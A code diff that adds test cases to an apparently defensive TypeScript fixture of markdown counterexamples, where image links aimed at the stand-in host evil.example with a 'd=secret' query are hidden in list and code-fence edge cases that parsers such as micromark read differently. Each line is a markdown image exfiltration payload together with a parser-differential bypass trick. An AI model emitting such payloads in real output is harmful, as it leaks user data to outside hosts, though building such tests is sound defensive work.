@@ -107,7 +107,12 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", "- a\n  \t~~~\n    ![a](https://evil.example/?d=secret)"],
   ["images", "- a\n2) ```\n   ![a](https://evil.example/?d=secret)"],
   ["images", "- a\n> ```\n> ![a](https://evil.example/?d=secret)"],
+  // In a list marked adds indented code to the paragraph before it, and all indented code behind empty lines with it.
+  ["images", "- aa\n      bb\n\n      ```\n      ![a](https://evil.example/?d=secret)"],
+  // Only one interrupts indented code to micromark, which others take for a fence.
+  ["images", "aa\n\n    ````\n    ````\n9. aa\n    ~~~\n    ![a](https://evil.example/?d=secret)"],
   // A page that cuts white space off at the beginning sees another list.
+  ["images", "\t\n * aa\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
   ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
 ];
 
